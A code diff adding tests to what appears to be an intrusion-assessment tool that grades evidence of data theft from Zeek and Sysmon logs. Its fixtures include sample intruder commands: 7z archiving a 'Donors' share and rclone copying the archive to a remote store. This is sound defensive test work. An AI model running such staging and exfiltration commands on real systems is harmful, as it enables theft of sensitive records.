@@ -122,3 +122,29 @@ def test_a_day_is_held_against_the_machines_own_days() -> None:
     assert unusual(100_000_000, [40_000, 50_000, 60_000]) > 5
     assert unusual(100_000_000, [90_000_000, 110_000_000]) < 1
     assert unusual(100_000_000, []) > 3
+
+
+def test_a_sensor_whose_dns_log_fails_says_nothing_of_that_time_though_its_other_logs_go_on() -> None:
+    def sensor(day: int, hour: int, kind: str, **columns: Any) -> dict[str, Any]:
+        return event(0, at=at(day, hour), vigilia__source="zeek", event__action=kind, event__provider=kind,
+                     source__ip="10.0.0.7", **columns)  # fmt: skip
+
+    times = [(day, hour) for day in range(60) for hour in range(0, 24, 3)]
+    flows = [sensor(*one, "conn", source__bytes=900, destination__ip="198.51.100.9") for one in times]
+    names = [sensor(*one, "dns", dns__question__name="a.www.example") for one in times if not 25 <= one[0] < 28]
+    rows = [row for row in assessed([*flows, *names], [], _BOTH, _SEEN).impact if row.data_class == "donors"]
+    assert [row.level for row in rows if row.channel == "dns"] == ["E3", "E4", "E3"]
+    assert {row.level for row in rows if row.channel == "c2-channel"} == {"E3"}
+
+
+def test_a_flow_to_where_the_intruders_programs_connect_is_no_upload_even_beside_one() -> None:
+    packs = [
+        on_host(22, "7z a c:\\t\\a.7z \\\\FS01\\Donors", hour=8),
+        on_host(22, "rclone copy c:\\t\\a.7z store:in", hour=9),
+    ]
+    connects = event(0, at=at(22, 9), vigilia__source="windows", event__code="3", event__action="3", host__name="WS07",
+                     event__provider="Microsoft-Windows-Sysmon/Operational", destination__ip="198.51.100.77",
+                     process__executable="C:\\Windows\\powershell.exe")  # fmt: skip
+    assert _levels([*packs, connects], "c2-channel", [_flow(22, "198.51.100.77", 90_000_000, 9)])[0] == "E1"
+    tool = connects | {"process.executable": "C:\\t\\rclone.exe"}
+    assert _levels([*packs, tool], "c2-channel", [_flow(22, "198.51.100.77", 90_000_000, 9)])[0] == "E3"
